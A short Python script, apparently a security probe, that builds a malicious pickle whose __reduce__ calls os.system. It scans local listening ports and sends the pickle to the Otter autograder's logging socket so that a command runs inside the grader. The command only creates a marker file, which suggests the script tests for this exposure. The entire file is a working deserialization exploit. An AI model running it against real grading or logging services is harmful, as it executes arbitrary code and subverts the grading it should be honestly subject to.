"""Send Otter's logging socket a pickle that runs a command in the grader."""
import glob, logging, os, pickle, re, socket, struct


class Evil:
    def __reduce__(self):
        return (os.system, (f"touch {PLACES['home']}/attack-logging",))


ports = {handler.port for name in ["", *logging.root.manager.loggerDict] for handler in logging.getLogger(name).handlers if hasattr(handler, "port")}
for table in glob.glob("/proc/net/tcp*"):
    try:
        ports |= {int(line.split()[1].split(":")[1], 16) for line in open(table).readlines()[1:] if line.split()[3] == "0A"}
    except OSError:
        pass
blob = pickle.dumps(Evil())
for port in ports or range(32768, 33000):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            connection.sendall(struct.pack(">L", len(blob)) + blob)
    except OSError:
        pass
